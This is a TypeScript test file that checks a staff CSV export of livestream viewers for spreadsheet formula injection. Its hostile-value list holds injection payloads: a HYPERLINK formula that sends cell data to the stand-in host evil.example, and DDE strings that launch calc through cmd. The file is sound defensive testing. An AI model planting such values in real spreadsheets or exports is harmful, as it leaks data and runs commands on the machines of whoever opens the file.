import { SANDBOX_LIVES } from '../../../sandbox';
import { textBody } from '../../support/text-body';
import { startHarness, type Harness } from '../harness';
import { staffSessionCookie } from '../sign-in/staff-session';
import { csvRecords } from '../../support/csv-records';

/**
 * Issue 17, item 4: a viewer's name, id or inviter that Excel would run as a formula reaches the staff member's
 * spreadsheet as text. Each hostile value below is planted in the id, the name and the inviter of a viewer (as
 * WeCom lists them, through the sandbox); the export must start each such cell with `'` and keep the rest as is.
 */
const STAFF = { agentId: '1000002', userIds: ['zhaomin'], managers: [] as string[], loginBase: '' };
const LIVE = SANDBOX_LIVES.endedReplayReady;

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?"&A2,"点此")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  '-1',
  '\t=1+2',
  '\r=1+2',
  '=cmd|" /C calc"!A0,x',
];
/** What Excel treats as the start of a formula (or a DDE payload once trimmed). */
const LIVE_FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('adversary: watchers.csv carries no formulas', () => {
  let h: Harness;
  let staffCookie: string;
  beforeEach(async () => {
    h = await startHarness({ config: { staff: STAFF } });
    staffCookie = await staffSessionCookie(h);
  });
  afterEach(() => h.close());

  async function exportRows(): Promise<string[][]> {
    const res = await h.http
      .get(`/api/staff/lives/${LIVE}/watchers.csv`)
      .set('Cookie', staffCookie)
      .buffer(true)
      .parse(textBody)
      .expect(200);
    const text = res.body as string;
    expect(text.startsWith('\uFEFF')).toBe(true);
    // RFC 4180 with CRLF: the whole text is records, nothing left over after the last CRLF.
    expect(text.endsWith('\r\n')).toBe(true);
    return csvRecords(text.slice(1)).slice(1);
  }

  it('makes every formula-led id, name and inviter inert with a leading quote, the value otherwise kept', async () => {
    h.sandbox.watchStats.set(LIVE, {
      // Members: the hostile value as the userid (the id column) and as the inviter.
      users: HOSTILE.map((v, i) => ({
        userid: v,
        watch_time: 60 * (i + 1),
        is_comment: 0,
        is_mic: 0,
        invitor_userid: v,
      })),
      // External viewers: a harmless id, the hostile value as the name, and the external inviter.
      externalUsers: HOSTILE.map((v, i) => ({
        external_userid: `wmSafe${i}`,
        type: 1,
        name: v,
        watch_time: 30,
        is_comment: 0,
        is_mic: 0,
        invitor_external_userid: v,
      })),
    });
    const rows = await exportRows();
    expect(rows).toHaveLength(HOSTILE.length * 2);
    const byId = new Map(rows.map((r) => [r[0]!, r]));
    HOSTILE.forEach((v, i) => {
      const member = byId.get(`'${v}`);
      expect(member).toBeDefined();
      expect(member![7]).toBe(`'${v}`);
      expect(member![3]).toBe(String(60 * (i + 1)));
      const external = byId.get(`wmSafe${i}`);
      expect(external).toBeDefined();
      expect(external![2]).toBe(`'${v}`);
      expect(external![7]).toBe(`'${v}`);
    });
    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(LIVE_FORMULA);
  });

  it('leaves ordinary values alone: names with commas, quotes, line breaks and a hyphen inside', async () => {
    h.sandbox.watchStats.set(LIVE, {
      users: [{ userid: 'zhangsan', watch_time: 90, is_comment: 1, is_mic: 0, invitor_userid: 'lisi' }],
      externalUsers: [
        { external_userid: 'wm-1', type: 2, name: 'Smith, "J" -\nJr.', watch_time: 0, is_comment: 0, is_mic: 0 },
        { external_userid: 'wm2', type: 1, name: '张三=李四', watch_time: 3600, is_comment: 0, is_mic: 0 },
      ],
    });
    const rows = await exportRows();
    expect(rows).toEqual([
      ['zhangsan', '企业成员', '', '90', '1.5', '是', '否', 'lisi'],
      ['wm-1', '企业微信用户', 'Smith, "J" -\nJr.', '0', '0.0', '否', '否', ''],
      ['wm2', '微信用户', '张三=李四', '3600', '60.0', '否', '否', ''],
    ]);
  });
});
